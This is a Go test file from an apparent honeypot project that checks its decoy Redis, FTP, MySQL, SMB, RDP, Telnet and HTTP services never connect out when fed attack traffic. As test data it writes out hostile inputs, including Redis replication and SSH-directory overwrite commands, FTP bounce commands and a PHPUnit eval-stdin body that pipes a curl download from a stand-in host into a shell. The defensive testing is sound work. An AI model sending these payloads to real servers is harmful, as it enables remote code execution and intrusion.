package tcppot

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"testing"
	"time"

	"github.com/vallum/vallum/internal/sensor"
	"github.com/vallum/vallum/internal/sensor/httppot"
	"github.com/vallum/vallum/internal/sensor/sensortest"
)

// TestNoEgress runs every honeypot in a fresh network namespace whose only
// route sends everything to the loopback device, with an nftables counter
// on every packet leaving for an address that is not loopback. It feeds
// them the requests that would make a careless decoy connect out (Redis
// SLAVEOF, FTP PORT and EPRT, an HTTP proxy request, a PHPUnit
// eval-stdin body that downloads) and checks the counter stayed at zero;
// then it connects out itself to show the counter would have seen it.
func TestNoEgress(t *testing.T) {
	if !sensortest.Isolate(t) {
		return
	}
	cfg := Config{}
	cfg.FTP.Anonymous = true
	p := startPots(t, cfg)
	hs, err := httppot.New(httppot.Config{}, sensor.Env{Sink: p.ev, Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	hl, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { hs.ServeListeners(ctx, []net.Listener{hl}, nil); close(done) }()
	defer func() { cancel(); <-done }()

	talk := func(proto, script string) {
		c, err := net.Dial("tcp", p.addr[proto])
		if err != nil {
			t.Error(err)
			return
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(5 * time.Second))
		io.WriteString(c, script)
		time.Sleep(300 * time.Millisecond)
		io.Copy(io.Discard, bufio.NewReader(c))
	}
	go talk(Redis, "SLAVEOF 198.51.100.7 6379\r\nREPLICAOF 198.51.100.7 6380\r\nMODULE LOAD /tmp/exp.so\r\nCONFIG SET dir /root/.ssh\r\nSAVE\r\nEVAL \"return redis.call('get','x')\" 0\r\nQUIT\r\n")
	go talk(FTP, "USER anonymous\r\nPASS a@b\r\nPORT 198,51,100,7,0,80\r\nEPRT |1|198.51.100.7|80|\r\nEPRT |2|2001:db8::7|80|\r\nLIST\r\nRETR x\r\nQUIT\r\n")
	go talk(MySQL, string(myPacket(1, mysqlHandshake("root", "mysql", "mysql_native_password", []byte("12345678901234567890")))))
	go talk(SMB, nmapSMBProbe)
	go talk(RDP, "\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=nmap\r\n\x01\x00\x08\x00\x03\x00\x00\x00")
	go talk(Telnet, "root\r\nroot\r\n")
	hc, err := net.Dial("tcp", hl.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer hc.Close()
	hc.SetDeadline(time.Now().Add(5 * time.Second))
	body := "<?php system('curl http://198.51.100.7/x | sh'); ?>"
	fmt.Fprintf(hc, "GET http://198.51.100.7/ HTTP/1.1\r\nHost: 198.51.100.7\r\n\r\n"+
		"CONNECT 198.51.100.7:443 HTTP/1.1\r\nHost: 198.51.100.7:443\r\n\r\n"+
		"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
	io.Copy(io.Discard, hc)
	resp, err := http.Get("http://" + hl.Addr().String() + "/HNAP1/")
	if err == nil {
		resp.Body.Close()
	}

	// Every session has had its say (the events show they were served).
	for _, proto := range []string{Redis, FTP, MySQL, SMB, RDP, Telnet} {
		deadline := time.Now().Add(5 * time.Second)
		for {
			served := false
			for _, e := range p.ev.Of(t, "", 0) {
				served = served || (e.Protocol == proto && e.Kind != sensor.KindConnect)
			}
			if served || time.Now().After(deadline) {
				if !served {
					t.Errorf("%s: no event beyond the connection", proto)
				}
				break
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	time.Sleep(500 * time.Millisecond)
	sensortest.CheckNoEgress(t)
}
